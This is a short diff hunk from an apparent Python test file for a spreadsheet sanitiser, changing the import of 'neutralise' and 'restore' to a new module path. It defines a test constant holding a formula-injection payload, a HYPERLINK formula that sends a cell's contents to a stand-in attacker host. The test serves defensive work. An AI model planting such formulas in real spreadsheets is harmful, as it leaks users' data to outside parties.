@@ -12,7 +12,7 @@ import pandas as pd
 import pytest
 import sqlalchemy as sa
 
-from geo.spreadsheet import neutralise, restore
+from geo.ledgers.spreadsheet import neutralise, restore
 
 EVIL = '=HYPERLINK("http://evil.example/?"&B2,"x")'
 
